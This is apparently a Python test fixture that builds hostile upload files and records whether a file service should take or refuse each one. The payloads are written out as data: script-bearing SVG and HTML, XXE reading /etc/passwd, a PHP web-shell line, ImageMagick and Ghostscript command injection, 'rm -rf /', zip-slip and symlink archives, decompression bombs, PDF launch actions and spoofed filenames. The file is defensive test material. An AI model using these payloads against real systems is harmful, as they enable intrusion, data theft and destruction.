"""Hostile files, each with the answer it deserves: "taken" and harmless, or the code of a refusal.

Nothing here is unpacked, rendered by a page or run; what is taken is handed out as a download.
"""

import io
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass

from tests.infra.files.samples import picture, report

SCRIPT = b"<script>document.title='ran'</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Hostile:
    """`answer` is "taken" or a refusal's code; `shown` is the name that is kept, when it is not the name given."""

    name: str
    content: bytes
    answer: str = "taken"
    shown: str = ""

    def __str__(self) -> str:
        return self.name[:40].encode("ascii", "backslashreplace").decode() or "empty"


def svg(inside: bytes, head: bytes = b"") -> bytes:
    return (
        head + b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">' + inside + b"</svg>"
    )


def zipped(**entries: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name.replace("__", "/"), content)
    return written.getvalue()


def named_zip(*names: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), b"x")
    return written.getvalue()


def linked_tar(kind: bytes, target: str) -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w") as archive:
        entry = tarfile.TarInfo("link")
        entry.type, entry.linkname = kind, target
        archive.addfile(entry)
    return written.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A valid head over almost no pixels: who believes it reserves all of them."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    data = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def gif_of(frames: int) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 1000, 1000, 0xF0, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1000, 1000, 0) + b"\x02\x02\x44\x01\x00"
    return head + frame * frames + b";"


def pdf_with(extra: bytes) -> bytes:
    with_space = report().replace(b"/Type /Catalog", b"/Type /Catalog " + extra, 1)
    return with_space.replace(b"/Type/Catalog", b"/Type/Catalog" + extra, 1)


MARKUP = [
    Hostile("script.svg", svg(SCRIPT)),
    Hostile("load.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    Hostile("foreign.svg", svg(b"<foreignObject><body><iframe src='javascript:alert(1)'/></body></foreignObject>")),
    Hostile("use.svg", svg(b"<use x:href='https://evil.example/x.svg#a'/>")),
    Hostile(
        "entity.svg", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg(b"&a;")
    ),
    Hostile("lol.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'),
    Hostile("bom.svg", svg(SCRIPT, b"\xef\xbb\xbf")),
    Hostile("packed.svgz", zlib.compress(svg(SCRIPT), wbits=31)),
    Hostile("page.html", b"<!doctype html>" + SCRIPT),
    Hostile("page.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"),
    Hostile("page.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT),
    Hostile("page.hta", b"<hta:application>" + SCRIPT),
    Hostile("page.txt", b"<html>" + SCRIPT),
    Hostile("page.csv", SCRIPT),
    Hostile("page.doc", b"<html>" + SCRIPT),
    Hostile("page.png", b"<html>" + SCRIPT, "file_mismatch"),
    Hostile("page.jpg", b"\n\n  <!DOCTYPE html>" + SCRIPT, "file_mismatch"),
    Hostile("vector.png", svg(SCRIPT), "file_mismatch"),
    Hostile("page.pdf", b"<html>" + SCRIPT, "file_mismatch"),
    Hostile("pdf-after-page.pdf", b"<html>" + SCRIPT + b"%PDF-1.7", "file_mismatch"),
    Hostile("page.zip", b"<html>" + SCRIPT, "file_mismatch"),
    Hostile("page.mp4", b"<html>" + SCRIPT, "file_mismatch"),
]
PROGRAMS = [
    Hostile("tool.exe", b"MZ\x90\x00" + b"\0" * 60),
    Hostile("build.sh", b"#!/bin/sh\nrm -rf /\n"),
    Hostile("program.png", b"MZ\x90\x00" + b"\0" * 60, "file_disguised"),
    Hostile("program.pdf", b"\x7fELF\x02\x01", "file_disguised"),
    Hostile("program.docx", b"MZ\x90\x00", "file_disguised"),
    Hostile("program.zip", b"\xcf\xfa\xed\xfe", "file_disguised"),
    Hostile("song.mp3", b"#!/usr/bin/python\n", "file_disguised"),
    Hostile("class.jpg", b"\xca\xfe\xba\xbe\x00", "file_disguised"),
    Hostile("invoice.pdf.exe", b"MZ\x90\x00", "file_disguised"),
    Hostile("invoice.docx.scr", b"anything", "file_disguised"),
    Hostile("photo.jpg.lnk", b"L\x00\x00\x00\x01\x14\x02\x00", "file_disguised"),
    Hostile("請求書.pdf .bat", b"@echo off", "file_disguised"),
]
POLYGLOTS = [
    Hostile("gif-and-js.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//"),
    Hostile("png-and-php.png", picture() + b"<?php system($_GET[0]); ?>"),
    Hostile("jpeg-and-page.jpg", picture("JPEG") + SCRIPT),
    Hostile("zip-after-jpeg.jpg", picture("JPEG") + zipped(a=b"x")),
    Hostile("pdf-and-js.pdf", report() + b"\n/*\nalert(1)*/"),
    Hostile("jpeg.png", picture("JPEG")),
    Hostile("magick.png", b"push graphic-context\nfill 'url(https://e.example/\"|ls \"-la)'", "file_mismatch"),
    Hostile("ghost.pdf", b"%!PS\n(%pipe%id) (w) file", "file_mismatch"),
    Hostile("nothing-known.png", bytes(range(1, 200)), "file_mismatch"),
]
ARCHIVES = [
    Hostile("bomb.zip", zipped(zeros=b"\0" * 10_000_000)),
    Hostile("nested.zip", zipped(a=zipped(b=zipped(c=b"\0" * 1_000_000)))),
    Hostile("crowd.zip", named_zip(*(str(number) for number in range(3000)))),
    Hostile("slip.zip", named_zip("../../../etc/cron.d/x", "/etc/passwd", "..\\..\\x", "\\\\host\\share\\x")),
    Hostile("encoded-slip.zip", named_zip("..%2f..%2fx", "CON", "a.txt:stream")),
    Hostile("lying.zip", zipped(a=b"x" * 100).replace(b"\x64\x00\x00\x00", b"\xff\xff\xff\x7f")),
    Hostile("symlink.tar", linked_tar(tarfile.SYMTYPE, "/etc/shadow")),
    Hostile("hardlink.tar", linked_tar(tarfile.LNKTYPE, "/etc/shadow")),
    Hostile("device.tar", linked_tar(tarfile.CHRTYPE, "")),
    Hostile("macro.docm", zipped(word__document=b"x", word__vbaProject=b"Auto_Open")),
    Hostile("template.docx", zipped(word__settings=b"<w:attachedTemplate r:id='https://evil.example'/>")),
    Hostile("entity.xlsx", zipped(xl__workbook=b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')),
    Hostile("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500),
]
BOMBS = [
    Hostile("flood.png", png_claiming(50_000, 50_000)),
    Hostile("wide.png", png_claiming(2_000_000_000, 2)),
    Hostile("frames.gif", gif_of(10_000)),
    Hostile("cut.png", picture()[:40]),
    Hostile("cut.jpg", picture("JPEG", (900, 900))[:200]),
    Hostile("profile.png", picture(icc_profile=b"\xff" * 100_000)),
    Hostile(
        "flood.bmp", b"BM" + struct.pack("<IHHIIiiHHIIiiII", 99, 0, 0, 54, 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0)
    ),
    Hostile("flood.tiff", b"II*\x00" + b"\xff" * 64),
    Hostile("flood.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8L" + b"\xff" * 64),
    Hostile("script.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")),
    Hostile("launch.pdf", pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >> ")),
    Hostile("cut.pdf", report()[:300]),
    Hostile(
        "many.pdf", b"%PDF-1.7\n" + b"".join(b"%d 0 obj <</A %d 0 R>> endobj\n" % (n, n + 1) for n in range(50_000))
    ),
    Hostile("deep.pdf", b"%PDF-1.7\n1 0 obj " + b"[" * 200_000 + b"]" * 200_000 + b" endobj"),
]
NAMES = [
    Hostile("請求書\u202egpj.exe", b"MZ", shown="請求書gpj.exe"),
    Hostile("a\x00b.txt", b"x", shown="ab.txt"),
    Hostile('a";\r\nSet-Cookie: x=1; b=".txt', b"x", shown="a_;Set-Cookie_ x=1; b=_.txt"),
    Hostile("../../../etc/passwd", b"x", shown="passwd"),
    Hostile("C:\\Windows\\win.ini", b"x", shown="win.ini"),
    Hostile("CON.txt", b"x", shown="_CON.txt"),
    Hostile("a.txt:stream", b"x", shown="a.txt_stream"),
    Hostile("か\u3099.txt", b"x", shown="が.txt"),
    Hostile("🍵.txt", b"x", shown="🍵.txt"),
    Hostile("名" * 255 + ".txt", b"x", shown="名" * 78 + ".txt"),
    Hostile("." * 50, b"x", shown="file"),
    Hostile("<img src=x onerror=alert(1)>.txt", b"x", shown="_img src=x onerror=alert(1)_.txt"),
    Hostile("\u200b\u2060.txt", b"x", shown="txt"),
    Hostile("ƒ‰ƒCƒ“.txt", b"x", shown="ƒ‰ƒCƒ“.txt"),
]
TEXTS = [
    Hostile("formula.csv", b"=cmd|'/C calc'!A0,@SUM(1),+1,-1"),
    Hostile("virus.com", EICAR),
    Hostile("virus.zip", zipped(eicar=EICAR)),
    Hostile("nothing.txt", b"", "file_empty"),
    Hostile("noise.bin", bytes(range(256))),
    Hostile("sjis.txt", "仲立ち".encode("cp932")),
]
CORPUS = [*MARKUP, *PROGRAMS, *POLYGLOTS, *ARCHIVES, *BOMBS, *NAMES, *TEXTS]
